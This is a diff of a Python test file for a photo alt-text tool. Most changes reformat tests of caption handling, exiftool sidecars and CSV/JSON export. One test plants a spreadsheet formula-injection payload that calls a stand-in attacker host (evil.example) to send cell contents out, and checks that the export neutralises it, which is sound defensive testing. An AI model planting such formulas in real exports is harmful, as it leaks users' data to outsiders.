@@ -43,8 +43,12 @@ def library(tmp_path: Path, photo_copy: Path) -> Library:
 
 def exiftool(path: Path) -> dict[str, str]:
     assert EXIFTOOL
-    result = subprocess.run([EXIFTOOL, "-j", "-G1", "-XMP-iptcCore:all", "-XMP-dc:Description*", str(path)],
-                            capture_output=True, text=True, check=True)
+    result = subprocess.run(
+        [EXIFTOOL, "-j", "-G1", "-XMP-iptcCore:all", "-XMP-dc:Description*", str(path)],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     return {k: v for k, v in json.loads(result.stdout)[0].items() if k != "SourceFile"}
 
 
@@ -55,8 +59,21 @@ def pixels(path: Path) -> str:
 
 def test_alt_text_is_short_and_without_preamble() -> None:
     assert shorten("x " * 100).endswith("…") and len(shorten("word " * 60)) <= 125
-    assert alt_text([{"lang": "en", "prompt_set": "brief", "status": "done", "text": "An image of a red car."}], None, "f.jpg") == "A red car."
-    assert alt_text([{"lang": "ja", "prompt_set": "brief", "status": "done", "text": "この画像は、赤い車です。"}], None, "f.jpg", "ja") == "赤い車です。"
+    assert (
+        alt_text(
+            [{"lang": "en", "prompt_set": "brief", "status": "done", "text": "An image of a red car."}], None, "f.jpg"
+        )
+        == "A red car."
+    )
+    assert (
+        alt_text(
+            [{"lang": "ja", "prompt_set": "brief", "status": "done", "text": "この画像は、赤い車です。"}],
+            None,
+            "f.jpg",
+            "ja",
+        )
+        == "赤い車です。"
+    )
     assert alt_text([], "NO\nEXIT", "f.jpg") == "Text in the photo: NO / EXIT"
     assert alt_text([], None, "f.jpg") == "f.jpg"
 
@@ -66,7 +83,11 @@ def test_a_persons_caption_wins(library: Library, photo_copy: Path) -> None:
     tokyo = records["tokyo.jpg"]
     assert tokyo.alt == {"ja": "東京駅の青い駅名標", "en": "The blue name board of Tokyo Station"} and tokyo.human
     litter = records["no-litter.jpg"]
-    assert len(litter.alt["en"]) <= 125 and litter.alt["en"].startswith("A very long description") and litter.alt["en"].endswith("…")
+    assert (
+        len(litter.alt["en"]) <= 125
+        and litter.alt["en"].startswith("A very long description")
+        and litter.alt["en"].endswith("…")
+    )
     assert litter.extended["ja"] == "写真の文字: NO LITTER / ポイ捨て禁止"
     assert records["card-game.png"].alt == {"ja": "写真の文字: CARD GAME"}  # only OCR text: alt text from it
 
@@ -76,8 +97,10 @@ def test_sidecars_read_back_by_exiftool_and_merge(library: Library, photo_copy: 
     sidecar = photo_copy / "station/tokyo.xmp"
     import pyexiv2
 
-    sidecar.write_text('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
-                       '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
+    sidecar.write_text(
+        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
+    )
     with pyexiv2.Image(str(sidecar)) as existing:
         existing.modify_xmp({"Xmp.dc.creator": ["Alice"], "Xmp.xmp.Rating": "4"})
     before = {p: p.read_bytes() for p in photo_copy.rglob("*.*") if p.suffix != ".xmp"}
@@ -96,7 +119,10 @@ def test_sidecars_read_back_by_exiftool_and_merge(library: Library, photo_copy: 
     assert {p: p.read_bytes() for p in before} == before  # sidecars only: photos untouched
     out = tmp_path / "sidecars"
     run_cli("export", "alt-text", "--db", str(library.path), "--out", str(out), check=True)
-    assert exiftool(out / "photos/park/no-litter.xmp")["XMP-iptcCore:AltTextAccessibility-ja"] == "公園のポイ捨て禁止の看板。"
+    assert (
+        exiftool(out / "photos/park/no-litter.xmp")["XMP-iptcCore:AltTextAccessibility-ja"]
+        == "公園のポイ捨て禁止の看板。"
+    )
 
 
 @needs_exiftool
@@ -160,7 +186,9 @@ def test_read_only_photo_is_a_clear_error(library: Library, photo_copy: Path) ->
 def test_tables_and_snippets(library: Library, tmp_path: Path) -> None:
     csv_text = run_cli("export", "alt-text", "--db", str(library.path), "--format", "csv", check=True).stdout
     assert csv_text.splitlines()[0] == "path,photo_id,alt_ja,alt_en,extended_ja,extended_en,edited_by_a_person"
-    document = json.loads(run_cli("export", "alt-text", "--db", str(library.path), "--format", "json", "--lang", "en", check=True).stdout)
+    document = json.loads(
+        run_cli("export", "alt-text", "--db", str(library.path), "--format", "json", "--lang", "en", check=True).stdout
+    )
     tokyo = next(r for r in document if r["path"].endswith("tokyo.jpg"))
     assert tokyo["alt_text"] == {"en": "The blue name board of Tokyo Station"} and tokyo["edited_by_a_person"] is True
     snippet = tmp_path / "alt.html"
@@ -170,16 +198,32 @@ def test_tables_and_snippets(library: Library, tmp_path: Path) -> None:
 
 def test_csv_cells_cannot_run_as_spreadsheet_formulas(library: Library, photo_copy: Path) -> None:
     library.set_caption(str(photo_copy / "games/card-game.png"), '=HYPERLINK("http://evil.example/?"&A1,"click")')
-    rows = list(__import__("csv").reader(__import__("io").StringIO(
-        run_cli("export", "alt-text", "--db", str(library.path), "--format", "csv", "--lang", "en", check=True).stdout)))
+    rows = list(
+        __import__("csv").reader(
+            __import__("io").StringIO(
+                run_cli(
+                    "export", "alt-text", "--db", str(library.path), "--format", "csv", "--lang", "en", check=True
+                ).stdout
+            )
+        )
+    )
     card = next(row for row in rows if row[0].endswith("card-game.png"))
     assert card[2].startswith("'=HYPERLINK")
     assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
 
 
 def test_caption_set_command(library: Library, photo_copy: Path) -> None:
-    result = run_cli("caption", "set", str(photo_copy / "games/card-game.png"), "A poster for a card game night",
-                     "--lang", "en", "--db", str(library.path), check=True)
+    result = run_cli(
+        "caption",
+        "set",
+        str(photo_copy / "games/card-game.png"),
+        "A poster for a card game night",
+        "--lang",
+        "en",
+        "--db",
+        str(library.path),
+        check=True,
+    )
     assert "set by you" in result.stdout
     found = library.search("poster night").results[0]
     assert found.path.endswith("card-game.png")
